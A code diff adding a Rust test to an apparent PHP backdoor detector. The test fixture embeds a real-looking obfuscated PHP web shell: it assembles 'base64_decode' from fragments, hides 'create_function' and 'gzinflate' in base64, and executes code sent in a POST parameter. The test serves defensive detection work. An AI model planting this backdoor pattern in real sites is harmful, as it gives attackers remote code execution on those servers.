@@ -1819,3 +1819,17 @@ fn names_parsed_from_a_query_in_percent_codes_are_hidden() {
     // A query of ordinary words parsed: an application's own.
     assert!(found("<?php parse_str('page=1&sort=name', $q); $cb = 'trim'; $cb($q['sort']);").is_empty());
 }
+
+#[test]
+fn dangerous_names_kept_in_base64_literals_are_hidden() {
+    // The wp2021 captures' class backdoor (`info.php`): the decoder's name joined from pieces,
+    // each name behind `junk::` in base64, run through `__call`.
+    let src = "<?php class c { private $r = array(); public function __call($n, $a) { call_user_func_array($this->r[$n], $a); }\n\
+               public function d($s) { $b = 'b' . 'ase' . '64' . '_' . 'de' . 'code'; return explode('::', $b($s), 2)[1]; }\n\
+               public function p() { $f = $this->d(\"eStUbEtYd0VjeDBKMjBRPTo6Y3JlYXRlX2Z1bmN0aW9u\"); $g = $this->d(\"YVNOenRMdUd1b2NLQlljPTo6Z3ppbmZsYXRl\");\n\
+               $this->r['x'] = $f('', $g($_POST['k'])); $this->x(); } } (new c())->p();";
+    assert!(found(src).contains(&Why::HiddenFunctionName), "{:?}", found(src));
+    // An application's base64 literals of data (an image, a key): no names in them.
+    let data = "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); $f = 'imagecreatefromstring'; $f($img);";
+    assert!(!found(data).contains(&Why::HiddenFunctionName));
+}
